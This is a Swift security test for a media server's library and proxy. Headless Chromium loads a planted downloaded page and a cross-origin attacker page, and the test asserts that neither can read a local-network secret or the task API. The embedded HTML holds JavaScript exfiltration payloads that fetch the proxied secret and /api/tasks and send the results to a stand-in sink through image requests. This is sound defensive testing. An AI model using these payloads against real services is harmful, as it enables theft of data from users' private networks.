import Foundation
import StreamKitHTTPServer
import StreamKitMediaCache
import StreamKitMediaServer
import StreamKitTestSupport
import Testing

/// Headless Chromium as the attacker: an HTML page that a download brought into the library, and
/// a page of another loopback origin (Selenium), each trying to read a service of the user's network (a
/// second nginx) through the proxy and the queue through `/api/`, and to send what it read to a
/// sink. Whatever runs, neither the service nor the sink may be reached.
@Suite(.requires(.selenium, .nginx)) struct BrowserAttackTests {
    @Test func noPageReachesTheNetworkThroughTheLibraryOrTheProxy() async throws {
        let lanRoot = try TestRun.makeTemporaryDirectory("attack-lan")
        try "lan-secret".write(to: lanRoot.appendingPathComponent("secret.txt"), atomically: true, encoding: .utf8)
        let lan = try await Nginx.static(root: lanRoot)
        let sinkRoot = try TestRun.makeTemporaryDirectory("attack-sink")
        let sink = try await Nginx.static(root: sinkRoot)
        let library = try TestRun.makeTemporaryDirectory("attack-library")
        let cache = try MediaCache(
            configuration: MediaCacheConfiguration(
                directory: try TestRun.makeTemporaryDirectory("attack-cache").path, byteLimit: 1 << 30),
            client: proxyTestClient)
        let server = try MediaServer.start(configuration: .init(libraryRoot: library.path, cache: cache))
        let own = "http://127.0.0.1:\(server.port)"
        let secret = lan.url("secret.txt").absoluteString
        let proxied = ProxyRoutes.localPath(for: secret, isPlaylist: false)
        let sinkURL = sink.url("sink").absoluteString

        // A downloaded page: its script reads the service and the queue, and reports to the sink
        // (the first report before any read, so that a script that runs at all is seen).
        let item = library.appendingPathComponent("0123456789abcdef")
        try FileManager.default.createDirectory(at: item, withIntermediateDirectories: true)
        try "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\na.ts\n#EXT-X-ENDLIST\n".write(
            to: item.appendingPathComponent("index.m3u8"), atomically: true, encoding: .utf8)
        let script = """
            <html><body><script>
            new Image().src = '\(sinkURL)?ran=' + location.origin;
            fetch('\(proxied)').then(r => r.text()).then(t => { new Image().src = '\(sinkURL)?lan=' + t; });
            fetch('/api/tasks').then(r => r.text()).then(t => { new Image().src = '\(sinkURL)?api=' + t; });
            </script><p>page</p></body></html>
            """
        try script.write(to: item.appendingPathComponent("page.html"), atomically: true, encoding: .utf8)
        let page = "\(own)/library/0123456789abcdef/page.html"

        // A page of another origin: the library page in a frame, the service through the proxy in
        // every element and fetch mode that needs no CORS.
        let attackerRoot = try TestRun.makeTemporaryDirectory("attack-page")
        let attacker = try await Nginx.static(root: attackerRoot)
        try """
        <html><body>
        <iframe src="\(page)"></iframe>
        <img src="\(own)\(proxied)&img">
        <video src="\(own)\(proxied)&video" autoplay muted></video>
        <script>
        new Image().src = '\(sinkURL)?control';
        fetch('\(own)\(proxied)&fetch', {mode: 'no-cors'});
        fetch('\(own)/api/tasks', {mode: 'no-cors'});
        </script></body></html>
        """.write(to: attackerRoot.appendingPathComponent("attack.html"), atomically: true, encoding: .utf8)

        let visits = try await Selenium.visit(
            [page, attacker.url("attack.html").absoluteString],
            directory: try TestRun.makeTemporaryDirectory("attack-browser"))
        // The same page as the server sends it: content in a sandbox, saved rather than shown.
        let port = server.port
        let head = try await runBlocking { () -> RawHTTPResponse in
            let connection = try RawHTTPConnection(port: port)
            try connection.send("GET /library/0123456789abcdef/page.html HTTP/1.1\r\nHost: 127.0.0.1:\(port)\r\n\r\n")
            return try connection.readResponse()
        }
        await server.shutdown(gracePeriod: .seconds(1))
        await cache.shutdown()

        // The attacker's own script ran (the browser runs scripts and reaches the sink); the library
        // page's did not.
        #expect(try await sink.settledAccessLog().map(\.uri) == ["/sink?control"], "\(visits)")
        #expect(try await lan.settledAccessLog().map(\.uri) == [], "the service was read through the proxy")
        #expect(try await attacker.settledAccessLog().map(\.uri).contains("/attack.html"))
        #expect(head.status == 200)
        #expect(head.header("Content-Security-Policy") == "sandbox; default-src 'none'")
        #expect(head.header("Content-Type") == "application/octet-stream")
        #expect(head.header("Content-Disposition") == "attachment")
        #expect(head.header("Cross-Origin-Resource-Policy") == "same-origin")
        for nginx in [lan, sink, attacker] { await nginx.stop() }
    }
}
